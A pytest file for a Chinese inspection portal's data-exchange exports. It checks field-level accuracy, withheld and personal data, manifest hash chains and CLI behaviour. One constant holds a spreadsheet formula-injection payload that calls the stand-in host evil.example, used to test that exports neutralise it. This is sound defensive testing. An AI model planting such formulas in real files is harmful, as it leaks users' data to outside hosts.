"""Exchange files for the outside systems (issue 20 §6): every export read back and checked field
by field against the database; a repeated export with no changes is empty; what the portal does
not show never leaves in a file.

Clauses: 获嘉 一、（四） (results to 国家企业信用信息公示系统), 绛县 一, 二、（四）, 四、（二）, 六、二
(the province's platform, 一单两库), 绛县 四、（七）, 五、（二）, 遵化 二、（六）, 藁城 二、（七）
(penalties to the credit system, 联合惩戒).
"""

from __future__ import annotations

import datetime as dt
import json
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.db import transaction
from django.utils import timezone
from python_calamine import CalamineWorkbook

from shuangsuiji.audit.models import AuditEvent
from shuangsuiji.cli import main
from shuangsuiji.directory.models import InspectionItem, Inspector, Target
from shuangsuiji.directory.registers import INSPECTORS as INSPECTOR_REGISTER
from shuangsuiji.directory.registers import TARGETS as TARGET_REGISTER
from shuangsuiji.directory.services import record_remove, record_save
from shuangsuiji.disclosure import selectors
from shuangsuiji.disclosure.exchange import batch_path, exchange_export, record_key
from shuangsuiji.disclosure.exchange_files import (
    CHANGE_COLUMN,
    KEY_COLUMN,
    MANIFEST,
    SUMS,
    file_sha256,
    sha256,
    verify_batch,
)
from shuangsuiji.disclosure.models import ExchangeBatch, ExchangeRow
from shuangsuiji.inspections.models import FollowUp, Inspection
from shuangsuiji.inspections.services import (
    follow_up_close,
    follow_up_open,
    inspection_reopen,
    result_release,
)
from tests.support.portal import Portal, build_portal, record, staffed, team_user
from tests.support.tree import build_organisations, make_user
from tests.support.workbooks import id_number

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
PHONE = "13912345678"
CASE = "遵环罚〔2026〕12号"
PENALTY_OUTCOME = "罚款人民币伍万元，已缴纳"


@dataclass
class World:
    portal: Portal
    #: The inspectors' 身份证号 and 联系电话, as entered (the database holds them encrypted).
    personal: list[str]
    #: The penalty of a published result, and penalties of results the portal does not show.
    penalty: FollowUp
    hidden_penalties: list[FollowUp]


def _penalise(portal: Portal, inspection: Inspection, case: str) -> FollowUp:
    follow_up = follow_up_open(
        actor=portal.coordinator, inspection=inspection, kind="case",
        opened_on=dt.date(2026, 11, 21), case_number=case,
    )  # fmt: skip
    return follow_up_close(
        actor=portal.coordinator, follow_up=follow_up, closed_on=dt.date(2026, 12, 1),
        outcome=PENALTY_OUTCOME, penalty_decided_on=dt.date(2026, 11, 30),
    )  # fmt: skip


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """The portal's county (tests/support/portal.py), its inspectors with phone numbers, and a
    行政处罚决定 on a published result and on each result the portal withholds. Built once for
    the module, rolled back after it; each test's own changes roll back with the test."""
    with django_db_blocker.unblock(), transaction.atomic():
        try:
            portal = build_portal(build_organisations(), make_user)
            personal = []
            for n, inspector in enumerate(Inspector.objects.filter(organisation=portal.county)):
                phone = f"{PHONE[:-2]}{n:02d}"
                record_save(actor=None, spec=INSPECTOR_REGISTER, organisation=portal.county,
                            values={"phone": phone}, reason="补录联系电话", instance=inspector)  # fmt: skip
                personal += [phone, inspector.id_number] if inspector.id_number else [phone]
            assert id_number(0) in personal
            penalty = _penalise(portal, portal.ordered, CASE)
            hidden = [
                _penalise(portal, inspection, f"遵环罚〔2026〕{90 + n}号")
                for n, inspection in enumerate((portal.secret, portal.unrevealed, portal.targeted))
            ]
            yield World(portal, personal, penalty, hidden)
        finally:
            transaction.set_rollback(True)


# ---- reading a batch back ----------------------------------------------------------------------


def jsonl(batch: ExchangeBatch, table: str) -> list[dict]:
    entry = next(e for e in batch.files if e["table"] == table)
    lines = (batch_path(batch) / entry["name"]).read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines]


def workbook(batch: ExchangeBatch) -> Path:
    entry = next(e for e in batch.files if e["format"] == "xlsx")
    return batch_path(batch) / entry["name"]


def sheet(batch: ExchangeBatch, name: str) -> list[list[str]]:
    book = CalamineWorkbook.from_path(str(workbook(batch)))
    return [[str(cell) for cell in row] for row in book.get_sheet_by_name(name).to_python()]


def as_sheet(rows: list[dict], headers: list[str]) -> list[list[str]]:
    return [headers, *([row[h] for h in headers] for row in rows)]


def every_byte(batch: ExchangeBatch) -> str:
    """All the text of a batch: its files, the workbook unzipped."""
    texts = []
    for path in batch_path(batch).iterdir():
        if path.suffix == ".xlsx":
            book = zipfile.ZipFile(path)
            texts += [book.read(name).decode("utf-8") for name in book.namelist()]
        else:
            texts.append(path.read_text(encoding="utf-8"))
    return "\n".join(texts)


def export(world: World, kind: str) -> ExchangeBatch:
    return exchange_export(actor=world.portal.coordinator, organisation=world.portal.county,
                           kind=kind)  # fmt: skip


def expected_result(inspection: Inspection) -> dict[str, str]:
    """A result as 国家企业信用信息公示系统 shows it, straight from the database."""
    inspection = Inspection.objects.select_related("organisation", "target", "task").get(
        pk=inspection.pk
    )
    return {
        "检查实施机关": inspection.organisation.name,
        "统一社会信用代码": inspection.target.credit_code,
        "企业名称": inspection.target.name,
        "抽查类型": inspection.task.get_kind_display(),
        "检查日期": timezone.localtime(inspection.checked_at).date().isoformat(),
        "检查结果": inspection.get_result_category_display(),
    }


RESULT_HEADERS = ["检查实施机关", "统一社会信用代码", "企业名称", "抽查类型", "检查日期", "检查结果",
                  CHANGE_COLUMN, KEY_COLUMN]  # fmt: skip


# ---- 抽查检查结果 ------------------------------------------------------------------------------


def test_results_are_the_portals_results_field_by_field(db, world):
    """获嘉 一、（四）: the fields 国家企业信用信息公示系统 shows for 抽查检查结果, in its order; the
    rows exactly the portal's published results (未发现问题 and 责令整改), each 新增 in the first
    batch, the workbook and the JSON Lines file holding the same cells."""
    county = world.portal.county
    batch = export(world, "results")
    rows = jsonl(batch, "results")
    public = selectors.public_results(county)
    assert {row[KEY_COLUMN] for row in rows} == {record_key(county, r.pk) for r in public}
    assert len(rows) == 2 == batch.added == batch.rows
    for inspection in (world.portal.clean, world.portal.ordered):
        row = next(r for r in rows if r[KEY_COLUMN] == record_key(county, inspection.pk))
        assert list(row) == RESULT_HEADERS
        assert row == {**expected_result(inspection), CHANGE_COLUMN: "新增",
                       KEY_COLUMN: record_key(county, inspection.pk)}  # fmt: skip
    assert {row["检查结果"] for row in rows} == {"未发现问题", "发现问题已责令整改"}
    assert {row["抽查类型"] for row in rows} == {"不定向抽查"}
    assert sheet(batch, "抽查检查结果") == as_sheet(rows, RESULT_HEADERS)


def test_nothing_withheld_by_the_portal_is_in_results_or_penalties(db, world):
    """涉密 (绛县 四、（七）“涉及国家秘密、商业秘密或个人隐私不予公开”), a result of a draw whose
    list is not yet public, and a 定向检查 are in no file — nor their penalties."""
    portal = world.portal
    results, penalties = export(world, "results"), export(world, "penalties")
    # Whole cells, compared whole: 重点企业3 is not 重点企业31.
    cells = {value for row in jsonl(results, "results") + jsonl(penalties, "penalties")
             for value in row.values()}  # fmt: skip
    cells |= {value for row in sheet(results, "抽查检查结果") + sheet(penalties, "行政处罚信息")
              for value in row}  # fmt: skip
    for withheld in (portal.secret, portal.unrevealed, portal.targeted):
        assert withheld.target.credit_code not in cells
        assert withheld.target.name not in cells
    for follow_up in world.hidden_penalties:
        assert follow_up.case_number not in cells
    assert CASE in cells
    texts = every_byte(results) + every_byte(penalties)
    for words in (
        "涉及企业工艺参数",
        "名单未公开时不得出现",
        "举报核查",
        "举报 2026-031",
        "内部记录",
    ):
        assert words not in texts


def test_a_repeated_export_with_no_changes_is_empty(db, world):
    """The acceptance: the second export of an unchanged county is an empty batch, chained to
    the first, for every kind."""
    for kind in ("results", "registers", "penalties"):
        first = export(world, kind)
        second = export(world, kind)
        assert first.rows > 0
        assert (second.sequence, second.rows) == (first.sequence + 1, 0)
        assert second.previous_sha256 == first.manifest_sha256
        assert second.since == first.through
        for entry in second.files:
            assert entry["rows"] == 0
            if entry["format"] == "jsonl":
                assert (batch_path(second) / entry["name"]).read_bytes() == b""
        manifest, problems = verify_batch(batch_path(second), batch_path(first))
        assert problems == []
        assert manifest["rows"] == {"added": 0, "changed": 0, "withdrawn": 0, "total": 0}


def test_a_result_published_after_an_export_is_alone_in_the_next(db, world):
    portal = world.portal
    export(world, "results")
    later = staffed(portal.revealed, 1)[0]
    record(later, team_user(later, make_user), public_summary="未发现问题")
    later.refresh_from_db()
    if not later.published_at:
        result_release(actor=portal.coordinator, inspection=later)
    batch = export(world, "results")
    rows = jsonl(batch, "results")
    assert rows == [{**expected_result(later), CHANGE_COLUMN: "新增",
                     KEY_COLUMN: record_key(portal.county, later.pk)}]  # fmt: skip
    assert (batch.added, batch.changed, batch.withdrawn) == (1, 0, 0)


def test_a_withdrawn_result_is_a_withdrawal_and_its_return_new_again(db, world):
    """A result reopened leaves the portal: the next batch takes it back (撤回, with the values
    sent, so the receiver knows which); submitted again, it is 新增 again."""
    portal = world.portal
    first = jsonl(export(world, "results"), "results")
    sent = next(r for r in first if r[KEY_COLUMN] == record_key(portal.county, portal.clean.pk))
    inspection_reopen(actor=portal.coordinator, inspection=portal.clean, reason="材料不全")
    withdrawn = export(world, "results")
    assert jsonl(withdrawn, "results") == [{**sent, CHANGE_COLUMN: "撤回"}]
    assert (withdrawn.added, withdrawn.changed, withdrawn.withdrawn) == (0, 0, 1)
    clean = Inspection.objects.get(pk=portal.clean.pk)
    record(clean, team_user(clean, make_user), public_summary="未发现问题")
    assert [r[CHANGE_COLUMN] for r in jsonl(export(world, "results"), "results")] == ["新增"]


def test_a_renamed_enterprise_is_a_change_in_results_and_registers(db, world):
    portal = world.portal
    export(world, "results")
    export(world, "registers")
    target = portal.clean.target
    record_save(actor=portal.coordinator, spec=TARGET_REGISTER, organisation=portal.county,
                values={"name": "遵化市新名称有限公司"}, reason="企业更名", instance=target)  # fmt: skip
    results = jsonl(export(world, "results"), "results")
    assert [(r[CHANGE_COLUMN], r["企业名称"]) for r in results] == [
        ("变更", "遵化市新名称有限公司")
    ]
    registers = export(world, "registers")
    assert [(r[CHANGE_COLUMN], r["单位名称"], r["统一社会信用代码"])
            for r in jsonl(registers, "targets")] == [("变更", "遵化市新名称有限公司", target.credit_code)]  # fmt: skip
    assert jsonl(registers, "inspectors") == jsonl(registers, "items") == []


# ---- 两库一单 -----------------------------------------------------------------------------------


def test_registers_are_the_portals_registers_field_by_field(db, world):
    """绛县 六、二: 检查对象名录库, 执法检查人员名录库 and 随机抽查事项清单, each in the columns the
    portal shows (the item list in those of 绛县's 附件《随机抽查事项清单》)."""
    county = world.portal.county
    batch = export(world, "registers")
    targets = jsonl(batch, "targets")
    assert len(targets) == 260 == Target.objects.filter(organisation=county).count()
    assert {
        r[KEY_COLUMN]: (r["统一社会信用代码"], r["单位名称"], r["单位地址"]) for r in targets
    } == {
        record_key(county, t.pk): (t.credit_code, t.name, t.address)
        for t in selectors.public_targets(county)
    }
    inspectors = jsonl(batch, "inspectors")
    # The twelve 执法人员; the 专家 is no 执法检查人员 and is not listed.
    assert len(inspectors) == 12
    assert {r[KEY_COLUMN]: (r["姓名"], r["执法证号"], r["所属部门"]) for r in inspectors} == {
        record_key(county, i.pk): (i.name, i.certificate_no, i.department)
        for i in Inspector.objects.filter(organisation=county, category="enforcement")
    }
    assert "专家甲" not in every_byte(batch)
    items = jsonl(batch, "items")
    item = InspectionItem.objects.get(organisation=county, name="排放检查")
    assert items == [{
        "序号": "1", "抽查类别": "污染源环境监管", "抽查事项": "排放检查", "检查对象": "排污单位",
        "事项类别": "一般检查事项", "检查方式": "现场检查", "检查主体": "遵化分局",
        "检查依据": "《环境保护法》第二十四条", CHANGE_COLUMN: "新增", KEY_COLUMN: record_key(county, item.pk),
    }]  # fmt: skip
    assert "涉密事项" not in every_byte(batch)
    for name, rows in (("检查对象名录库", targets), ("执法检查人员名录库", inspectors),
                       ("随机抽查事项清单", items)):  # fmt: skip
        assert sheet(batch, name) == as_sheet(rows, list(rows[0]))
    assert batch.added == 260 + 12 + 1


def test_no_identity_number_or_phone_ever_leaves(db, world):
    """身份证号 and 联系电话 are encrypted at rest and never exported in plain text: not in any
    file of any kind (the workbook unzipped), nor in what the platform keeps of what it sent."""
    assert len(world.personal) == 25  # twelve 身份证号, thirteen phones
    texts = "".join(
        every_byte(export(world, kind)) for kind in ("results", "registers", "penalties")
    )
    kept = json.dumps(
        list(ExchangeRow.objects.values_list("values", flat=True)), ensure_ascii=False
    )
    for secret in world.personal:
        assert secret not in texts
        assert secret not in kept
    # The masked form is no more exported than the number.
    assert "****" not in texts


def test_an_inspector_out_of_the_register_is_withdrawn(db, world):
    portal = world.portal
    export(world, "registers")
    inspector = Inspector.objects.filter(organisation=portal.county, category="enforcement").first()
    record_remove(actor=portal.coordinator, instance=inspector, reason="调离")
    batch = export(world, "registers")
    assert [(r[CHANGE_COLUMN], r["执法证号"]) for r in jsonl(batch, "inspectors")] == [
        ("撤回", inspector.certificate_no)
    ]
    assert batch.rows == 1


def test_a_formula_in_a_name_is_text_in_the_workbook(db, world):
    """A name typed as ``=HYPERLINK(…)`` is shown as text and never runs (OWASP CSV injection);
    the JSON Lines file carries it unchanged."""
    portal = world.portal
    target = Target.objects.filter(organisation=portal.county).order_by("pk").first()
    record_save(actor=portal.coordinator, spec=TARGET_REGISTER, organisation=portal.county,
                values={"name": HOSTILE}, reason="测试", instance=target)  # fmt: skip
    batch = export(world, "registers")
    row = next(r for r in jsonl(batch, "targets") if r["统一社会信用代码"] == target.credit_code)
    assert row["单位名称"] == HOSTILE
    book = zipfile.ZipFile(workbook(batch))
    xml = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml
    styles = book.read("xl/styles.xml").decode()
    xfs = re.findall(r"<xf [^>]*>", re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)[1])
    quoted = {str(i) for i, xf in enumerate(xfs) if "quotePrefix" in xf}
    escaped = HOSTILE.replace("&", "&amp;")
    style = re.search(
        rf'<c r="[A-Z]+\d+" s="(\d+)" t="inlineStr"><is><t>{re.escape(escaped)}</t>', xml
    )
    assert style and style[1] in quoted
    cells = [r[1] for r in sheet(batch, "检查对象名录库") if r[0] == target.credit_code]
    assert cells == [HOSTILE]


# ---- 行政处罚信息 -------------------------------------------------------------------------------


def test_penalties_are_the_closed_cases_of_published_results(db, world):
    """绛县 四、（七） “实施行政处罚的，应在作出行政处罚决定后，纳入国家有关信用信息系统”: a
    立案调查 closed with a 行政处罚决定, of a result the portal shows."""
    portal = world.portal
    batch = export(world, "penalties")
    ordered = expected_result(portal.ordered)
    assert jsonl(batch, "penalties") == [{
        "检查实施机关": portal.county.name, "统一社会信用代码": ordered["统一社会信用代码"],
        "企业名称": ordered["企业名称"], "案件编号": CASE, "行政处罚决定日期": "2026-11-30",
        "处罚情况": PENALTY_OUTCOME, "办结日期": "2026-12-01", "检查日期": ordered["检查日期"],
        "检查结果": "发现问题已责令整改", CHANGE_COLUMN: "新增",
        KEY_COLUMN: record_key(portal.county, world.penalty.pk),
    }]  # fmt: skip
    rows = jsonl(batch, "penalties")
    assert sheet(batch, "行政处罚信息") == as_sheet(rows, list(rows[0]))


def test_a_penalty_decided_after_an_export_is_alone_in_the_next(db, world):
    portal = world.portal
    export(world, "penalties")
    follow_up = FollowUp.objects.filter(inspection=portal.ordered, kind="rectify").get()
    follow_up_close(actor=portal.coordinator, follow_up=follow_up, closed_on=dt.date(2026, 12, 2),
                    outcome="已整改")  # fmt: skip
    assert export(world, "penalties").rows == 0  # 责令整改 is no 行政处罚
    second = _penalise(portal, portal.clean, "遵环罚〔2026〕13号")
    rows = jsonl(export(world, "penalties"), "penalties")
    assert [(r[KEY_COLUMN], r["案件编号"]) for r in rows] == [
        (record_key(portal.county, second.pk), "遵环罚〔2026〕13号")
    ]


# ---- the batch: names, manifest, chain ---------------------------------------------------------


def test_files_are_named_in_chinese_with_organisation_and_date(db, world):
    county = world.portal.county
    batch = export(world, "registers")
    day = f"{timezone.localtime(batch.through):%Y%m%d}"
    stem = f"{county.name}-两库一单-{day}-第1批"
    assert sorted(e["name"] for e in batch.files) == sorted([
        f"{stem}.xlsx", f"{stem}-检查对象名录库.jsonl", f"{stem}-执法检查人员名录库.jsonl",
        f"{stem}-随机抽查事项清单.jsonl",
    ])  # fmt: skip
    assert CalamineWorkbook.from_path(str(workbook(batch))).sheet_names == [
        "检查对象名录库",
        "执法检查人员名录库",
        "随机抽查事项清单",
    ]
    results = export(world, "results")
    assert {e["name"] for e in results.files} == {
        f"{county.name}-抽查检查结果-{day}-第1批.xlsx",
        f"{county.name}-抽查检查结果-{day}-第1批.jsonl",
    }


def test_the_manifest_lists_each_file_and_verifies(db, world):
    """The manifest: organisation, kind, number, period in Asia/Shanghai, each file's SHA-256,
    size and rows, and the previous manifest's hash; SHA256SUMS agrees (``sha256sum -c``)."""
    first = export(world, "results")
    second = export(world, "results")
    directory = batch_path(second)
    manifest = json.loads((directory / MANIFEST).read_text(encoding="utf-8"))
    assert manifest["organisation"] == {"code": world.portal.county.code,
                                        "name": world.portal.county.name}  # fmt: skip
    assert (manifest["kind"], manifest["kind_label"], manifest["sequence"]) == (
        "results",
        "抽查检查结果",
        2,
    )
    assert manifest["through"].endswith("+08:00") and manifest["since"].endswith("+08:00")
    assert manifest["previous_manifest_sha256"] == first.manifest_sha256
    assert second.manifest_sha256 == sha256((directory / MANIFEST).read_bytes())
    for entry in manifest["files"]:
        path = directory / entry["name"]
        assert (entry["sha256"], entry["bytes"]) == (file_sha256(path), path.stat().st_size)
    sums = dict(
        reversed(line.split("  ", 1)) for line in (directory / SUMS).read_text().splitlines()
    )
    assert sums[MANIFEST] == second.manifest_sha256
    assert set(sums) == {MANIFEST, *(e["name"] for e in manifest["files"])}
    assert verify_batch(batch_path(first))[1] == []
    assert verify_batch(directory, batch_path(first))[1] == []


def test_verification_finds_a_changed_file_and_a_broken_chain(db, world):
    first = export(world, "results")
    export(world, "results")
    third = export(world, "results")
    entry = next(e for e in first.files if e["format"] == "jsonl")
    path = batch_path(first) / entry["name"]
    path.write_bytes(path.read_bytes().replace("未发现问题".encode(), "发现问题已".encode()))
    problems = verify_batch(batch_path(first))[1]
    assert any("SHA-256 与清单不符" in p for p in problems)
    assert any("上一批清单哈希" in p for p in verify_batch(batch_path(third), batch_path(first))[1])


def test_an_export_is_audited(db, world):
    batch = export(world, "results")
    event = AuditEvent.objects.filter(action="exchange.export").latest("id")
    assert event.organisation_id == world.portal.county.pk
    assert event.summary == f"生成交换批次：{batch}（新增 2 行，变更 0 行，撤回 0 行）"


# ---- the command a scheduler runs ---------------------------------------------------------------


def test_command_exports_prints_where_and_exits_zero(db, world, capsys, tmp_path):
    code = world.portal.county.code
    assert (
        main(["exchange", "export", "--org", code, "--kind", "results", "--out", str(tmp_path)])
        == 0
    )
    out = capsys.readouterr().out
    batch = ExchangeBatch.objects.get(organisation=world.portal.county, kind="results")
    copy = tmp_path / next(e["name"] for e in batch.files if e["format"] == "xlsx").removesuffix(
        ".xlsx"
    )
    assert f"✓ {batch}：新增 2 行，变更 0 行，撤回 0 行 → {copy}" in out
    assert verify_batch(copy)[1] == []
    assert main(["exchange", "export", "--org", code]) == 0
    out = capsys.readouterr().out
    assert "抽查检查结果 第 2 批：自上一批以来没有变化（空批次）" in out
    assert "两库一单 第 1 批：新增 273 行" in out
    assert "行政处罚信息 第 1 批：新增 1 行" in out
    assert main(["exchange", "verify", str(copy)]) == 0
    assert "完整" in capsys.readouterr().out
    assert main(["exchange", "list", "--org", code, "--kind", "results"]) == 0
    assert "第 2 批" in capsys.readouterr().out
    # A province's server: every organisation the portal lists, each its own chain.
    assert main(["exchange", "export", "--org", "all", "--kind", "results"]) == 0
    batches = ExchangeBatch.objects.filter(kind="results")
    assert set(batches.values_list("organisation", flat=True)) == set(
        selectors.public_organisations().values_list("pk", flat=True)
    )
    assert batches.get(organisation=world.portal.county, sequence=3).rows == 0


def test_command_exit_codes_for_errors(db, world, capsys, tmp_path):
    assert main(["exchange", "export", "--org", "999999", "--kind", "results"]) == 1
    assert "单位代码 999999 不存在" in capsys.readouterr().err
    with pytest.raises(SystemExit) as stopped:
        main(["exchange", "export", "--org", world.portal.county.code, "--kind", "cases"])
    assert stopped.value.code == 2
    assert main(["exchange", "verify", str(tmp_path)]) == 2
    assert "找不到批次清单" in capsys.readouterr().err
    batch = export(world, "results")
    (batch_path(batch) / SUMS).write_text("0" * 64 + f"  {MANIFEST}\n", encoding="utf-8")
    assert main(["exchange", "verify", str(batch_path(batch))]) == 1
    assert "SHA256SUMS 中 manifest.json 的哈希与清单不符" in capsys.readouterr().out


def test_an_export_of_an_unknown_kind_is_refused_and_writes_nothing(db, world):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match="交换内容只能是"):
        export(world, "cases")
    assert not ExchangeBatch.objects.exists()
    assert not (Path(settings.MEDIA_ROOT) / "exchange").exists()


def test_others_may_not_export(db, world):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        exchange_export(actor=world.portal.leader, organisation=world.portal.county, kind="results")
    assert not ExchangeBatch.objects.exists()


def test_batches_survive_in_the_workbook_reader_as_text(db, world):
    """Dates and 序号 are text cells, as in the JSON Lines file (a province's importer reads
    both the same way)."""
    batch = export(world, "registers")
    book = CalamineWorkbook.from_path(str(workbook(batch)))
    cells = book.get_sheet_by_name("随机抽查事项清单").to_python()
    assert cells[1][0] == "1"
